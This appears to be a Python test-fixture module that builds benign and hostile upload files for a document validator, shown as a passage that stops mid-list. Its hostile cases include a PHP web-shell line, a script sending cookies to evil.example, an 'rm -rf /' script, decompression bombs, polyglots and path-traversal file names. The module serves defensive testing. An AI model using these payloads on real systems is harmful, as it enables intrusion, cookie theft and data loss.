"""Files people send and files attackers send, built in code, each with the answer it must get.

``"ok"`` is taken; anything else is the code of the refusal. Nothing here is harmful by itself: the programs do not run, the
bombs unpack to zeros.
"""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache, partial
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image, ImageDraw

MIB = 1024 * 1024
LIMIT = 10 * MIB
HTML = b"<!doctype html><html><body onload=alert(1)><script>alert(1)</script></body></html>"
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200) + b"PE\0\0L\x01"
# The antivirus industry's harmless test file, put together here so that no scanner stops at this source.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    build: Callable[[], bytes]
    verdict: str


# --- builders ---


def scan(size: tuple[int, int] = (640, 480), mode: str = "RGB", *, noise: bool = False) -> Image.Image:
    """Something like a scanned page."""
    if noise:
        generator = random.Random(7)
        return Image.frombytes("RGB", size, generator.randbytes(size[0] * size[1] * 3)).convert(mode)
    image = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(image)
    for line in range(20, size[1] - 20, 24):
        draw.line((20, line, size[0] - 40 - line % 90, line), fill="black", width=3)
    return image.convert(mode)


def image(kind: str, size: tuple[int, int] = (640, 480), mode: str = "RGB", **options: Any) -> bytes:
    target = io.BytesIO()
    scan(size, mode).save(target, kind, **options)
    return target.getvalue()


def frames(kind: str, count: int, size: tuple[int, int] = (120, 90), mode: str = "P", **options: Any) -> bytes:
    # Pages of one colour may be the same twice; a GIF would leave such a frame out.
    colours = 2 if mode == "1" else 250
    different = [Image.new(mode, size, colour) for colour in range(min(count, colours))]
    first, *others = [different[index % colours] for index in range(count)]
    target = io.BytesIO()
    first.save(target, kind, save_all=True, append_images=others, **options)
    return target.getvalue()


def png_chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_of(width: int, height: int, packed: bytes, *extra: bytes, bits: int = 1, colour: int = 0) -> bytes:
    """A PNG put together by hand: the header may promise what it likes."""
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")


@cache
def zeros(count: int) -> bytes:
    """``count`` zeros, packed; a thousand times smaller."""
    packer, made = zlib.compressobj(9), []
    for start in range(0, count, MIB):
        made.append(packer.compress(bytes(min(MIB, count - start))))
    return b"".join(made) + packer.flush()


def packed_zip(name: str = "payload.html", body: bytes = HTML) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, body)
    return target.getvalue()


def office(folder: str) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{folder}/document.xml", "<document/>")
    return target.getvalue()


def into_png(chunk: bytes) -> bytes:
    data = image("PNG")
    return data[:33] + chunk + data[33:]


def jpeg_with_comment(comment: bytes) -> bytes:
    return image("JPEG", comment=comment)


def jpeg_script_start() -> bytes:
    """FF D8 FF E0 2F 2A: the length of the first segment reads as the beginning of a script's comment."""
    data = image("JPEG")
    length = int.from_bytes(b"/*", "big")
    rest = data[4 + int.from_bytes(data[4:6], "big") :]
    return data[:4] + b"/*" + data[6:20] + bytes(length - 16) + rest + b"*/=alert(1)/*"


def gif_script_start() -> bytes:
    data = bytearray(image("GIF", mode="P"))
    data[6:8] = b"/*"
    return bytes(data) + b"*/=1;alert(1)"


def bmp_script_start() -> bytes:
    data = bytearray(image("BMP"))
    data[2:4] = b"/*"
    return bytes(data)


def gif_of(width: int, height: int, count: int, frame: tuple[int, int] = (1, 1)) -> bytes:
    """A GIF of tiny frames on a large canvas."""
    body = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    one = b"\x21\xf9\x04\0\x0a\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, *frame, 0) + b"\x02\x02\x44\x01\x00"
    return body + one * count + b";"


def tiff_loop() -> bytes:
    """A page list that leads back to its own first page."""
    data = bytearray(image("TIFF"))
    at = struct.unpack_from("<I", data, 4)[0]
    count = struct.unpack_from("<H", data, at)[0]
    struct.pack_into("<I", data, at + 2 + 12 * count, at)
    return bytes(data)


def tiff_with_size(width: int, height: int) -> bytes:
    data = bytearray(image("TIFF"))
    at = struct.unpack_from("<I", data, 4)[0]
    for index in range(struct.unpack_from("<H", data, at)[0]):
        entry = at + 2 + 12 * index
        tag = struct.unpack_from("<H", data, entry)[0]
        if tag in (256, 257):
            struct.pack_into("<HHII", data, entry, tag, 4, 1, width if tag == 256 else height)
    return bytes(data)


def tiff_of_mixed_sizes() -> bytes:
    target = io.BytesIO()
    pages = [scan((300, 400)), scan((900, 300), "L"), scan((1700, 2200), "1")]
    pages[0].save(target, "TIFF", save_all=True, append_images=pages[1:])
    return target.getvalue()


def bmp_with(offset: int, form: str, *values: int) -> bytes:
    data = bytearray(image("BMP"))
    struct.pack_into(form, data, offset, *values)
    return bytes(data)


def jpeg_of_size(width: int, height: int) -> bytes:
    data = bytearray(image("JPEG"))
    at = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, at + 5, height, width)
    return bytes(data)


def filled_to(data: bytes, size: int) -> bytes:
    """A JPEG of exactly ``size`` bytes: comments are put in, which pictures may carry."""
    room = size - len(data)
    made = []
    while room:
        part = min(room, 65_000)
        if 0 < room - part < 8:
            part -= 8
        made.append(b"\xff\xfe" + struct.pack(">H", part - 2) + b"x" * (part - 4))
        room -= part
    return data[:2] + b"".join(made) + data[2:]


def pdf(change: Callable[[Pdf], None] | None = None, *, pages: int = 1, **options: Any) -> bytes:
    document = pikepdf.new()
    for number in range(pages):
        document.add_blank_page()
        if number < 3:
            document.pages[-1].contents_add(b"BT /F1 12 Tf 72 720 Td (Proof of residence) Tj ET")
    if change:
        change(document)
    target = io.BytesIO()
    document.save(target, **options)
    return target.getvalue()


def of_root(**entries: Any) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        for key, value in entries.items():
            document.Root[f"/{key}"] = value

    return change


def action(**entries: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, **entries)


def annotated(**entries: Any) -> Callable[[Pdf], None]:
    """Something on the first page."""

    def change(document: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 100, 100]), **entries)
        document.pages[0].obj["/Annots"] = Array([document.make_indirect(note)])

    return change


def with_script_by_name(document: Pdf) -> None:
    script = document.make_indirect(action(S=Name.JavaScript, JS=String("app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("go"), script])))


def with_script_in_stream(document: Pdf) -> None:
    document.Root.OpenAction = action(S=Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))


def with_script_in_field(document: Pdf) -> None:
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("total"), Rect=Array([0, 0, 100, 20]),
        AA=Dictionary(K=action(S=Name.JavaScript, JS=String("AFNumber_Format(2)"))),
    )  # fmt: skip
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def with_plain_form(document: Pdf) -> None:
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Rita"), Rect=Array([0, 0, 90, 20])
    )
    field = document.make_indirect(field)
    document.pages[0].obj["/Annots"] = Array([field])
    document.Root.AcroForm = Dictionary(Fields=Array([field]))


def with_hidden_script(document: Pdf) -> None:
    """Nothing refers to it, but it is there."""
    document.Root["/PieceInfo"] = document.make_indirect(
        Dictionary(Deep=Array([Array([Dictionary(Deeper=action(S=Name.JavaScript, JS=String("1")))])]))
    )


def with_attachment(document: Pdf) -> None:
    document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(document, MZ, filename="invoice.exe")


def with_next_action(document: Pdf) -> None:
    document.Root.OpenAction = action(
        S=Name.GoTo,
        D=Array([document.pages[0].obj, Name.Fit]),
        Next=action(S=Name.URI, URI=String("https://evil.example/")),
    )


def with_picture(width: int, height: int, packed: bytes, filters: Any = Name.FlateDecode) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        picture = document.make_stream(packed)
        picture.stream_dict = Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=width, Height=height,
            ColorSpace=Name.DeviceGray, BitsPerComponent=8, Filter=filters,
        )  # fmt: skip
        document.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=picture))

    return change


def with_jpeg(document: Pdf) -> None:
    with_picture(640, 480, image("JPEG", mode="L"), Name.DCTDecode)(document)


def with_stream(packed: bytes, filters: Any) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        stream = document.make_stream(packed)
        stream.stream_dict = Dictionary(Filter=filters)
        document.pages[0].obj["/Contents"] = stream

    return change


def with_many_streams(document: Pdf) -> None:
    """Each is within the limit; together they are not."""
    packed = zeros(100 * MIB)
    document.Root["/PieceInfo"] = Array([])
    for _ in range(5):
        stream = document.make_stream(packed)
        stream.stream_dict = Dictionary(Filter=Name.FlateDecode)
        document.Root.PieceInfo.append(stream)


def raw_pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF put together by hand, with a correct table of its objects."""
    body = bytearray(b"%PDF-1.7\n")
    places = []
    for number, text in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(body) + (
        b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n"
        % (len(objects) + 1, table, len(objects) + 1, root, len(body))
    )


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def pdf_object_stream_bomb() -> bytes:
    """The objects themselves are packed, and unpack to half a gigabyte."""
    header = b"3 0 "
    packer = zlib.compressobj(9)
    packed = packer.compress(header + PAGE)
    for _ in range(512):
        packed += packer.compress(b" " * MIB)
    packed += packer.flush()
    body = b"%PDF-1.7\n"
    places = []
    for number, text in ((1, CATALOG), (2, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>")):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    places.append(len(body))
    about = b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>" % (len(header), len(packed))
    body += b"4 0 obj\n" + about + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    table_at = len(body)
    rows = [(0, 0, 65535), (1, places[0], 0), (1, places[1], 0), (2, 4, 0), (1, places[2], 0), (1, table_at, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    about = b"<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>" % len(table)
    body += b"5 0 obj\n" + about + b"\nstream\n" + table + b"\nendstream\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % table_at


def pdf_deep(depth: int = 50_000) -> bytes:
    return raw_pdf(CATALOG, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", PAGE, b"[" * depth + b"]" * depth)


def pdf_page_tree_loop() -> bytes:
    return raw_pdf(CATALOG, b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>")


def pdf_same_page_often() -> bytes:
    return raw_pdf(CATALOG, b"<< /Type /Pages /Count 400 /Kids [%s] >>" % (b"3 0 R " * 400), PAGE)


def pdf_many_objects() -> bytes:
    return raw_pdf(CATALOG, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", PAGE, *([b"null"] * 210_000))


def pdf_packed_often() -> bytes:
    return raw_pdf(
        CATALOG,
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length 1 /Filter [%s] >>\nstream\nx\nendstream" % (b"/FlateDecode " * 10),
    )


def pdf_escaped_names() -> bytes:
    """#4a is J: the name reads /JavaScript, the bytes do not."""
    return raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Open#41ction << /S /#4aava#53cript /#4a#53 (app.alert\\(1\\)) >> >>",
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        PAGE,
    )


def pdf_with_note(note: bytes, *others: bytes) -> bytes:
    """A note on the page, object 4, with whatever it refers to, objects 5 and on."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R] >>"
    note = b"<< /Type /Annot /Rect [0 0 9 9] %s >>" % note
    return raw_pdf(CATALOG, b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", page, note, *others)


def jpeg_of_many_scans() -> bytes:
    """The last pass over the picture again and again: little to read, much to decode."""
    data = image("JPEG", (4000, 4000), progressive=True)
    last = data[data.rindex(b"\xff\xda") : -2]
    return data[:-2] + last * min(200, (9_000_000 - len(data)) // len(last)) + data[-2:]


def pdf_external_stream() -> bytes:
    return raw_pdf(
        CATALOG,
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length 0 /F << /Type /Filespec /FS /URL /F (https://evil.example/page) >> >>\nstream\n\nendstream",
    )


def damaged(data: bytes, *, keep: float) -> bytes:
    return data[: int(len(data) * keep)]


def big_pdf() -> bytes:
    """Twelve scanned pages with noise, as a scanner makes them."""

    def change(document: Pdf) -> None:
        for page in document.pages:
            target = io.BytesIO()
            scan((800, 1100), noise=True).save(target, "JPEG", quality=60)
            picture = document.make_stream(target.getvalue())
            picture.stream_dict = Dictionary(
                Type=Name.XObject, Subtype=Name.Image, Width=800, Height=1100,
                ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode,
            )  # fmt: skip
            page.obj["/Resources"] = Dictionary(XObject=Dictionary(Im0=picture))

    return pdf(change, pages=12)


def phone_photo() -> bytes:
    """A JPEG with a preview behind it, as many phones make them."""
    return image("JPEG", (1600, 1200), exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0") + image("JPEG", (320, 240))


def samsung_photo() -> bytes:
    note = b"\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1700000000000"
    return image("JPEG") + note + b"SEFH" + struct.pack("<II", 106, 1) + bytes(12) + struct.pack("<I", 24) + b"SEFT"


def bytes_of(data: bytes) -> Callable[[], bytes]:
    return lambda: data


def joined(*parts: Callable[[], bytes] | bytes) -> Callable[[], bytes]:
    return lambda: b"".join(part if isinstance(part, bytes) else part() for part in parts)


png, jpeg, gif, bmp, tiff = (
    partial(image, "PNG"),
    partial(image, "JPEG"),
    partial(image, "GIF", mode="P"),
    partial(image, "BMP"),
    partial(image, "TIFF"),
)
JS = String("app.alert(1)")
EVIL = String("https://evil.example/")

GOOD = [
    Case("plain PDF", "proof.pdf", pdf, "ok"),
    Case("PDF of twelve scanned pages", "scan.pdf", big_pdf, "ok"),
    Case("PDF with packed objects", "a.pdf", lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate), "ok"),
    Case("linearized PDF", "a.pdf", lambda: pdf(linearize=True), "ok"),
    Case("PDF with a JPEG page", "a.pdf", lambda: pdf(with_jpeg), "ok"),
    Case("PDF with a link", "a.pdf", lambda: pdf(annotated(Subtype=Name.Link, A=action(S=Name.URI, URI=EVIL))), "ok"),
    Case("PDF that opens at a page", "a.pdf", lambda: pdf(lambda d: of_root(OpenAction=Array([d.pages[0].obj, Name.Fit]))(d)), "ok"),
    Case("PDF form without scripts", "a.pdf", lambda: pdf(with_plain_form), "ok"),
    Case("PDF with an empty list of attachments", "a.pdf", lambda: pdf(of_root(Names=Dictionary(EmbeddedFiles=Dictionary()))), "ok"),
    Case("PDF of 500 pages", "a.pdf", lambda: pdf(pages=500), "ok"),
    Case("PDF after a byte-order mark and blank lines", "a.pdf", joined(b"\xef\xbb\xbf\r\n", pdf), "ok"),
    Case("PDF with blanks behind its end", "a.pdf", joined(pdf, b"\r\n\0\0  \x1a" * 40), "ok"),
    Case("PDF 1.3", "a.PDF", lambda: pdf(force_version="1.3"), "ok"),
    Case("JPG", "a.jpg", jpeg, "ok"),
    Case("JPEG", "a.jpeg", jpeg, "ok"),
    Case("progressive JPG", "a.jpg", lambda: image("JPEG", progressive=True), "ok"),
    Case("grey JPG", "a.JPG", lambda: image("JPEG", mode="L"), "ok"),
    Case("JPG in print colours", "a.jpg", lambda: image("JPEG", mode="CMYK"), "ok"),
    Case("photo of a phone with a preview behind it", "IMG_0042.JPG", phone_photo, "ok"),
    Case("photo of another phone with its notes behind it", "20261121_101500.jpg", samsung_photo, "ok"),
    Case("JPG with a comment", "a.jpg", lambda: jpeg_with_comment(b"scanned at the office"), "ok"),
    Case("large JPG, 8000 x 8000", "a.jpg", lambda: image("JPEG", (8000, 8000), "L"), "ok"),
    Case("large progressive JPG, 8000 x 8000", "a.jpg", lambda: image("JPEG", (8000, 8000), progressive=True), "ok"),
    Case("JPG of many passes", "a.jpg", jpeg_of_many_scans, "ok"),
    Case("TIF for files of any size", "a.tif", lambda: image("TIFF", big_tiff=True), "ok"),
    Case("PNG", "a.png", png, "ok"),
    Case("PNG with transparency", "a.png", lambda: image("PNG", mode="RGBA"), "ok"),
    Case("PNG in black and white", "a.png", lambda: image("PNG", mode="1"), "ok"),
    Case("PNG with a palette", "a.png", lambda: image("PNG", mode="P"), "ok"),
    Case("PNG of 16 bits", "a.png", lambda: png_of(2, 2, zlib.compress(b"\0\1\2\3\4" * 2), bits=16), "ok"),
    Case("PNG of one pixel", "a.png", lambda: png_of(1, 1, zlib.compress(b"\0\0")), "ok"),
    Case("whole-page screenshot, 1280 x 16000", "screen.png", lambda: image("PNG", (1280, 16000)), "ok"),
    Case("GIF", "a.gif", gif, "ok"),
    Case("GIF with interlace", "a.gif", lambda: image("GIF", mode="P", interlace=1), "ok"),
    Case("animated GIF of ten frames", "a.gif", lambda: frames("GIF", 10), "ok"),
    Case("TIF", "a.tif", tiff, "ok"),
    Case("TIFF", "a.tiff", tiff, "ok"),
    Case("TIF as faxes come, G4", "fax.tif", lambda: image("TIFF", (1728, 2200), "1", compression="group4"), "ok"),
    Case("TIF packed with LZW", "a.tif", lambda: image("TIFF", compression="tiff_lzw"), "ok"),
    Case("TIF with JPEG inside", "a.tif", lambda: image("TIFF", compression="jpeg"), "ok"),
    Case("TIF of three pages of different sizes", "a.tif", tiff_of_mixed_sizes, "ok"),
    Case("TIF of 200 pages", "a.tif", lambda: frames("TIFF", 200, mode="1", compression="group4"), "ok"),
    Case("BMP", "a.bmp", bmp, "ok"),
    Case("BMP in black and white", "a.bmp", lambda: image("BMP", mode="1"), "ok"),
    Case("BMP from the top down", "a.bmp", lambda: bmp_with(22, "<i", -480), "ok"),
    Case("JPG of 10,000,000 bytes", "a.jpg", lambda: filled_to(jpeg(), 10_000_000), "ok"),
    Case("JPG of 10 MiB exactly", "a.jpg", lambda: filled_to(jpeg(), LIMIT), "ok"),
    Case("name in other letters", "保険証 – Žofia’s Überweisung.pdf", pdf, "ok"),
    Case("name with folders", "..\\..\\Windows\\System32\\proof.pdf", pdf, "ok"),
    Case("name with a folder of the server", "../../../../etc/cron.d/proof.pdf", pdf, "ok"),
    Case("name with control characters", "pro\x00of\r\nSet-Cookie: a=b\x1b[31m.pdf", pdf, "ok"),
    Case("name of a Windows device", "CON.pdf", pdf, "ok"),
    Case("name of 300 letters", "x" * 300 + ".pdf", pdf, "ok"),
    Case("name that is only an extension", ".pdf", pdf, "ok"),
    Case("name with quotes and a slash", 'a"; filename="b.exe/proof.pdf', pdf, "ok"),
    Case("two extensions, the last one true", "invoice.exe.pdf", pdf, "ok"),
]  # fmt: skip

WRONG_TYPE = [
    Case("nothing", "a.pdf", bytes_of(b""), "empty"),
    Case("one byte", "a.pdf", bytes_of(b"%"), "not_what_it_says"),
    Case("10 MiB and one byte", "a.jpg", lambda: filled_to(jpeg(), LIMIT + 1), "too_large"),
    Case("Word document", "letter.docx", lambda: office("word"), "type"),
    Case("Word document renamed", "letter.pdf", lambda: office("word"), "not_what_it_says"),
    Case("Excel workbook renamed", "list.pdf", lambda: office("xl"), "not_what_it_says"),
    Case("old Word document", "letter.doc", bytes_of(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), "type"),
    Case("program", "setup.exe", bytes_of(MZ), "type"),
    Case("program renamed to PDF", "setup.pdf", bytes_of(MZ), "not_what_it_says"),
    Case("program renamed to JPG", "setup.jpg", bytes_of(MZ), "not_what_it_says"),
    Case("program of Linux renamed", "a.png", bytes_of(b"\x7fELF\x02\x01\x01" + bytes(100)), "not_what_it_says"),
    Case("shell script renamed", "a.pdf", bytes_of(b"#!/bin/sh\nrm -rf /\n"), "not_what_it_says"),
    Case("web page", "a.html", bytes_of(HTML), "type"),
    Case("web page renamed", "a.pdf", bytes_of(HTML), "not_what_it_says"),
    Case("SVG renamed", "a.png", bytes_of(b'<?xml version="1.0"?><svg xmlns="x" onload="alert(1)"/>'), "not_what_it_says"),
    Case("PHP renamed", "a.gif", bytes_of(PHP), "not_what_it_says"),
    Case("ZIP", "a.zip", packed_zip, "type"),
    Case("ZIP renamed", "a.pdf", packed_zip, "not_what_it_says"),
    Case("GZIP renamed", "a.pdf", lambda: gzip.compress(pdf()), "not_what_it_says"),
    Case("plain text renamed", "a.pdf", bytes_of(b"Dear carrier, please find enclosed"), "not_what_it_says"),
    Case("EICAR as text", "eicar.com", bytes_of(EICAR), "type"),
    Case("EICAR renamed", "eicar.pdf", bytes_of(EICAR), "not_what_it_says"),
    Case("EICAR in a ZIP renamed", "eicar.pdf", lambda: packed_zip("eicar.com", EICAR), "not_what_it_says"),
    Case("photo of an iPhone", "IMG_1.HEIC", bytes_of(b"\0\0\0\x18ftypheic" + bytes(200)), "type"),
    Case("WebP renamed", "a.png", lambda: image("WEBP"), "not_what_it_says"),
    Case("icon renamed", "a.png", lambda: image("ICO", (64, 64)), "not_what_it_says"),
    Case("PostScript renamed", "a.pdf", bytes_of(b"%!PS-Adobe-3.0\n(r) file"), "not_what_it_says"),
    Case("rich text renamed", "a.pdf", bytes_of(b"{\\rtf1\\ansi hello}"), "not_what_it_says"),
    Case("noise", "a.bmp", lambda: random.Random(3).randbytes(5000), "not_what_it_says"),
    Case("text that begins like a bitmap", "a.bmp", bytes_of(b"BMW AG, Munich. " * 20), "not_what_it_says"),
    Case("PNG named JPG", "a.jpg", png, "extension"),
    Case("JPG named PDF", "a.pdf", jpeg, "extension"),
    Case("PDF named JPG", "a.jpg", pdf, "extension"),
    Case("PDF named EXE", "a.exe", pdf, "extension"),
    Case("JPG named JFIF", "a.jfif", jpeg, "extension"),
    Case("PDF without extension", "proof", pdf, "no_extension"),
    Case("extension hidden by direction marks", "proof\u202efdp.exe", pdf, "extension"),
    Case("extension behind a null", "shell.php\x00.pdf.php", pdf, "extension"),
    Case("extension with a stream of Windows", "a.pdf::$DATA", pdf, "extension"),
]  # fmt: skip

TWO_AT_ONCE = [
    Case("PDF with a ZIP behind it", "a.pdf", joined(pdf, packed_zip), "polyglot"),
    Case("PDF with a ZIP before it", "a.pdf", joined(packed_zip, pdf), "not_what_it_says"),
    Case("PDF with a web page before it", "a.pdf", joined(HTML, pdf), "not_what_it_says"),
    Case("PDF with a web page behind it", "a.pdf", joined(pdf, HTML), "polyglot"),
    Case("PDF with PHP in a comment", "a.pdf", lambda: pdf().replace(b"\n", b"\n%" + PHP + b"\n", 1), "polyglot"),
    Case("PDF with PHP behind it", "a.pdf", joined(pdf, PHP), "polyglot"),
    Case("PDF with a program behind it", "a.pdf", joined(pdf, MZ), "polyglot"),
    Case("PDF with EICAR behind it", "a.pdf", joined(pdf, EICAR), "polyglot"),
    Case("PDF that is a TAR too", "a.pdf", lambda: b"%PDF-1.4\n%" + bytes(247) + b"ustar\x0000" + pdf(), "polyglot"),
    Case("PDF in the notes of a ZIP", "a.pdf", lambda: zip_around(pdf()), "polyglot"),
    Case("JPG with a ZIP behind it", "a.jpg", joined(jpeg, packed_zip), "polyglot"),
    Case("JPG with a RAR behind it", "a.jpg", joined(jpeg, b"Rar!\x1a\x07\x00", bytes(100)), "polyglot"),
    Case("JPG with a web page behind it", "a.jpg", joined(jpeg, HTML), "polyglot"),
    Case("JPG with PHP in a comment", "a.jpg", lambda: jpeg_with_comment(PHP), "polyglot"),
    Case("JPG with a script in a comment", "a.jpg", lambda: jpeg_with_comment(SCRIPT), "polyglot"),
    Case("JPG that is a script too", "a.jpg", jpeg_script_start, "polyglot"),
    Case("JPG with a program behind it", "a.jpg", joined(jpeg, MZ), "polyglot"),
    Case("JPG with a video behind it", "MVIMG_1.jpg", joined(jpeg, b"\0\0\0\x18ftypmp42", bytes(5000), b"mdat" * 40), "polyglot"),
    Case("JPG with a PDF behind it", "a.jpg", joined(jpeg, pdf), "polyglot"),
    Case("PNG with a ZIP behind it", "a.png", joined(png, packed_zip), "polyglot"),
    Case("PNG with a web page behind it", "a.png", joined(png, HTML), "polyglot"),
    Case("PNG with PHP in its notes", "a.png", lambda: into_png(png_chunk(b"tEXt", b"Comment\0" + PHP)), "polyglot"),
    Case("PNG with a program behind it", "a.png", joined(png, MZ), "polyglot"),
    Case("GIF with a script behind it", "a.gif", joined(gif, b";" + SCRIPT * 3), "polyglot"),
    Case("GIF that is a script too", "a.gif", gif_script_start, "polyglot"),
    Case("GIF with a Java archive behind it", "a.gif", joined(gif, lambda: packed_zip("A.class")), "polyglot"),
    Case("GIF with PHP behind its first bytes", "a.gif", bytes_of(b"GIF89a" + PHP), "polyglot"),
    Case("BMP with a web page behind it", "a.bmp", joined(bmp, HTML), "polyglot"),
    Case("BMP that is a script too", "a.bmp", bmp_script_start, "polyglot"),
    Case("BMP with a program behind it", "a.bmp", joined(bmp, MZ), "polyglot"),
    Case("TIF with a ZIP behind it", "a.tif", joined(tiff, packed_zip), "polyglot"),
    Case("TIF with PHP behind it", "a.tif", joined(tiff, PHP), "polyglot"),
]  # fmt: skip


def zip_around(data: bytes) -> bytes:
    """A PDF whose last bytes are the comment of a ZIP directory, so that both programs are content."""
    directory = packed_zip()
    end = directory.rindex(b"PK\x05\x06")
    body, tail = data[: data.rindex(b"startxref")], data[data.rindex(b"startxref") :]
    return body + b"%" + directory[: end + 20] + struct.pack("<H", len(tail) + 1) + b"\n" + tail


BROKEN_IMAGES = [
    Case("JPG without its end mark", "a.jpg", lambda: image("JPEG", (64, 64))[:-2], "damaged_image"),
    Case("JPG cut in the middle", "a.jpg", lambda: damaged(jpeg(), keep=0.5), "damaged_image"),
    Case("JPG of its first bytes only", "a.jpg", bytes_of(b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1"), "damaged_image"),
    Case("JPG of noise", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + random.Random(5).randbytes(4000), "damaged_image"),
    Case("JPG that claims 65000 x 65000", "a.jpg", lambda: jpeg_of_size(65000, 65000), "too_many_pixels"),
    Case("JPG that claims no height", "a.jpg", lambda: jpeg_of_size(640, 0), "damaged_image"),
    Case("JPG with fill bytes up to the limit", "a.jpg", lambda: jpeg()[:-2] + b"\xff" * (9 * MIB) + bytes(2), "damaged_image"),
    Case("JPG with fifty previews behind it", "a.jpg", lambda: jpeg() + image("JPEG", (64, 48)) * 50, "polyglot"),
    Case("PNG with a million beginnings of drawings", "a.png", lambda: into_png(png_chunk(b"tEXt", b"Comment\0" + b"<svg " * 1_900_000)), "damaged_image"),
    Case("PNG with a drawing that acts in its notes", "a.png", lambda: into_png(png_chunk(b"tEXt", b"Comment\0<svg onload=alert(1)>")), "polyglot"),
    Case("PNG cut in the middle", "a.png", lambda: damaged(png(), keep=0.6), "damaged_image"),
    Case("PNG of its first bytes only", "a.png", lambda: png()[:33], "damaged_image"),
    Case("PNG with a wrong checksum", "a.png", lambda: png().replace(b"IDAT", b"IDAT\1", 1)[:-1], "damaged_image"),
    Case("PNG bomb, 50000 x 50000", "a.png", lambda: png_of(50_000, 50_000, zeros(50_000 * 6251)), "too_many_pixels"),
    Case("PNG that claims 2 billion pixels a line", "a.png", lambda: png_of(2**31 - 1, 1, zlib.compress(b"\0")), "too_many_pixels"),
    Case("PNG of 64 million pixels and a few", "a.png", lambda: png_of(8000, 8001, zeros(8001 * 1001)), "too_many_pixels"),
    Case("PNG, 31000 pixels wide", "a.png", lambda: png_of(31_000, 10, zeros(10 * 3876)), "too_many_pixels"),
    Case("PNG with no width", "a.png", lambda: png_of(0, 10, zlib.compress(bytes(10))), "damaged_image"),
    Case("PNG with less data than pixels", "a.png", lambda: png_of(4000, 4000, zlib.compress(bytes(100))), "damaged_image"),
    Case("PNG with a bomb in its notes", "a.png", lambda: into_png(png_chunk(b"zTXt", b"Comment\0\0" + zeros(300 * MIB))), "damaged_image"),
    Case("PNG with a bomb for a colour profile", "a.png", lambda: into_png(png_chunk(b"iCCP", b"icc\0\0" + zeros(300 * MIB))), "damaged_image"),
    Case("PNG with a bomb behind its pixels", "a.png", lambda: png_of(64, 64, zeros(300 * MIB)), "ok"),
